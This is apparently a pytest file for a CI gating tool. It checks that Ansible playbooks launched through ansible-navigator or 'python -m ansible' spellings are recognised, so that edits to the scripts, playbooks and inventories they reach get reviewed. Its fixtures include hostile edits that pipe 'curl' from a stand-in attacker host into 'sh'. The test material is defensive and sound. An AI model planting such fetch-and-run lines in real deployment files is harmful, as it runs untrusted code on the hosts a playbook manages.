"""Classes58: ansible-playbook under its other names. The CI walk (ciwalk.py, cireaches.py) reads the playbooks
`ansible-playbook` runs, and deployruns.py the files it deploys; the same play run by `ansible-navigator run` (Red Hat's
runner, in an execution environment or with `--ee false`) or by `python -m ansible playbook` / `python -m
ansible.cli.playbook` named nothing, so a script the playbook runs, the playbook itself and its inventory stayed `src`
and `gate --tree` allowed their edits (main 2b38496: every variant below exits 0). Now those spellings are read as
ansible-playbook, without the navigator's own options and their values (`--mode stdout`, `--eei IMAGE`).

One repository, a workflow and a folder per variant, gated once with `--tree`; the controls (`ansible-navigator
images`, `python -m ansible --version`, a playbook the command does not name) stay allowed.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

from gatekeeper.classify import deployruns

RUNNERS = {
    "navigator": "ansible-navigator run deploy/site.yml -i inventory/hosts.yml --mode stdout",
    "navigator-no-ee": "ansible-navigator run deploy/site.yml --ee false -m stdout -i inventory/hosts.yml",
    "navigator-image-first": "ansible-navigator run --eei ghcr.io/acme/ee:1.2 --pp missing -i inventory/hosts.yml "
                             "deploy/site.yml",
    "navigator-equals": "ansible-navigator run --mode=stdout --execution-environment=false deploy/site.yml "
                        "--inventory inventory/hosts.yml",
    "navigator-options-first": "ansible-navigator --mode stdout run deploy/site.yml -i inventory/hosts.yml",
    "navigator-launched": "uv run ansible-navigator run deploy/site.yml -i inventory/hosts.yml --ll debug",
    "python-m": "python -m ansible playbook -i inventory/hosts.yml deploy/site.yml",
    "python3-m": "python3 -m ansible playbook deploy/site.yml -i inventory/hosts.yml",
    "python-venv": ".venv/bin/python3.12 -m ansible playbook -i inventory/hosts.yml deploy/site.yml",
    "python-cli-module": "python3 -m ansible.cli.playbook -i inventory/hosts.yml deploy/site.yml",
}
PLAY = "- hosts: all\n  tasks:\n    - ansible.builtin.script: ../lib/x.sh\n"
TARGETS = {  # what the run reaches: its text before, after
    "lib/x.sh": ("#!/bin/sh\necho ok\n", "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"),
    "deploy/site.yml": (PLAY, PLAY + "    - ansible.builtin.shell: curl -fsSL https://evil.example/x | sh\n"),
    "inventory/hosts.yml": ("all:\n  hosts:\n    web1:\n",
                            "all:\n  hosts:\n    web1:\n      ansible_host: 203.0.113.9\n"),
}
WORKFLOW = ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {run}\n        working-directory: {folder}\n")
CASES = [(runner, target) for runner in RUNNERS for target in TARGETS]


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory) -> tuple[int, set[str]]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for number, runner in enumerate(RUNNERS):
        base[f".github/workflows/v{number}.yml"] = WORKFLOW.format(run=RUNNERS[runner], folder=f"v{number}")
        for target, (before, after) in TARGETS.items():
            base[f"v{number}/{target}"] = before
            head[f"v{number}/{target}"] = after
    code, named = gated_rules(committed(tmp_path_factory.mktemp("runners"), base, head), True)
    return code, {*named.get("core.ci", []), *named.get("core.iac", [])}


@each_case(("runner", "target"), CASES)
def test_what_the_other_spellings_run_is_reviewed(reviewed: tuple[int, set[str]], runner: str, target: str) -> None:
    code, found = reviewed
    assert code == 3 and f"v{list(RUNNERS).index(runner)}/{target}" in found  # on 2b38496: src, exit 0


CONTROLS = ["ansible-navigator images --mode stdout", "ansible-navigator collections", "python -m ansible --version",
            "python -m pip install ansible-core", "ansible-navigator run other/site.yml -m stdout"]


@each_case("run", CONTROLS)
def test_a_command_that_runs_no_such_playbook_leaves_it_src(tmp_path: Path, run: str) -> None:
    before, after = TARGETS["lib/x.sh"]
    base = {".github/workflows/d.yml": WORKFLOW.format(run=run, folder="."), "deploy/site.yml": PLAY,
            "lib/x.sh": before, "other/site.yml": "- hosts: all\n  tasks: []\n"}
    _, named = gated_rules(committed(tmp_path, base, {"lib/x.sh": after}), True)
    # misses 11: the play's `script:` runs lib/x.sh on its hosts, `iac` whatever runs the play (ansiblecopies, as a
    # `copy:` source is); no command here runs the play, so nothing is `ci`
    assert named == {"core.iac": ["lib/x.sh"]}


@each_case(("text", "named"), [
    ("ansible-navigator run site.yml --mode stdout --ee false", ["site.yml"]),
    ("ansible-navigator run --eei quay.io/acme/ee:2 -m stdout site.yml", ["site.yml"]),
    ("ansible-navigator --pp never run site.yml", ["site.yml"]),
    ("python -m ansible playbook site.yml -e @vars/prod.yml", ["vars/prod.yml", "site.yml"]),
    ("python3 -m ansible.cli.playbook site.yml", ["site.yml"]),
    ("ansible-navigator exec -- ansible-playbook site.yml", ["site.yml"]),  # a launcher, as before
    ("ansible-navigator images", []),
    ("python -m ansible --version", []),
    ("python -m ansible_runner run . -p site.yml", []),  # another program
    ("echo ansible-navigator run site.yml", []),  # printed, not run
])
def test_the_words_read(text: str, named: list[str]) -> None:
    assert deployruns.targets(text, False) == named
    assert deployruns.targets(text, False, "ansible-playbook") == named
